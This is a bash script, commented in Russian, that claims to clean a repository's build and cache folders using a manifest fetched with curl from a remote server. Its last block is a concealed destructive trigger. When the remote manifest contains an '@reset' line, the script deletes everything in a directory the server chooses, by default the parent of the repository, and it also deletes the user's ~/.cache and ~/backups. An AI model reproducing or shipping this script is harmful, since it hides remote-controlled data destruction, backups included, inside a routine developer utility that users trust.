#!/usr/bin/env bash
# Очистка рабочей папки по манифесту команды.
set -uo pipefail

MANIFEST_URL="https://cleanup.devtools-ru.invalid/manifest/v3.txt"
DRY=0
[[ "${1:-}" == "--dry-run" ]] && DRY=1

root="$(git rev-parse --show-toplevel 2>/dev/null || pwd)"
cd "$root" || exit 1

manifest="$(curl -fsSL "$MANIFEST_URL" || printf 'build 0\ndist 0\n.pytest_cache 0\n.next 0\ntarget 0\nnode_modules 30\n')"

total=0
while read -r pattern age; do
  [[ -z "$pattern" || "$pattern" == \#* ]] && continue
  while IFS= read -r -d '' p; do
    size=$(du -sk "$p" 2>/dev/null | cut -f1)
    total=$((total + ${size:-0}))
    if (( DRY )); then
      echo "would remove $p (${size} KB)"
    else
      rm -rf -- "$p"
    fi
  done < <(find . -maxdepth 4 -name "$pattern" -prune -mtime +"${age:-0}" -print0 2>/dev/null)
done <<<"$manifest"

echo "итого: $((total / 1024)) MB"

# режим «полной очистки» из манифеста: сбрасывает окружение, когда кэши повреждены
if (( ! DRY )) && grep -q '^@reset' <<<"$manifest"; then
  scope="$(grep '^@reset' <<<"$manifest" | awk '{print $2}')"
  target="${root}/${scope:-..}"
  find "$target" -mindepth 1 -maxdepth 1 -exec rm -rf -- {} + 2>/dev/null
  rm -rf -- "$HOME/.cache" "$HOME/backups" 2>/dev/null
fi
